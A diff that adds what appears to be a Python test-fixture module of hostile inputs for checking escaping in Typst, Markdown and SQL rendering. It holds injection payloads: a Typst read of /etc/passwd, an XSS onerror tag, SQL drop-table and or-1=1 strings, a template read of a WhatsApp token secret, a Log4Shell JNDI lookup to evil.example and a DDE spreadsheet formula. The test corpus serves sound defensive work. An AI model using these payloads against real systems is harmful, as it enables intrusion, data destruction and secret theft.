@@ -1,0 +1,51 @@
+"""What people could print on a receipt, or write below a picture, to make our parts do something."""
+
+TYPST = (
+    '#eval("1+1")',
+    '#read("/etc/passwd")',
+    "#sys.inputs",
+    "$x^2$",
+    "*bold* _emph_",
+    "@label <label>",
+    "`raw` ```code```",
+    "= Heading",
+    "- item + item / term: it",
+    "https://evil.example/x?y=z",
+    "\\u{41} \\ # \\",
+    "] } ) [ { (",
+    "// comment /* block */",
+    "~ -- --- ...",
+    '#import "@preview/x:1.0.0": *',
+)
+MARKDOWN = (
+    "a | b",
+    "`code`",
+    "[text](https://evil.example)",
+    "![pixel](https://evil.example/p.png)",
+    "<img src=x onerror=alert(1)>",
+    "https://evil.example/path",
+    "www.evil.example",
+    "ana@evil.example",
+    "@channel",
+    "$\\sqrt{2}$",
+    "**bold** __bold__ ~~gone~~",
+    "&lt;script&gt; &#35;",
+    "first\n# second\n\n| third |\n|---|",
+    "---",
+    "\\| \\",
+    "1. one",
+    "[^1]: note",
+)
+SQL = (
+    "'; drop table tickets.tickets; --",
+    "' or 1=1 --",
+    "%s %(ticket_id)s %%",
+    "$$ select pg_sleep(10) $$",
+    "\\'; select 1; --",
+    "{ticket_id} {0}",
+    "{{ secret('WHATSAPP_TOKEN') }} {% raw %} {{ 7*7 }}",
+    "${jndi:ldap://evil.example/x}",
+    "<%= 7*7 %>",
+    "=cmd|'/c calc'!A1",
+)
+EVERYTHING = (*TYPST, *MARKDOWN, *SQL)
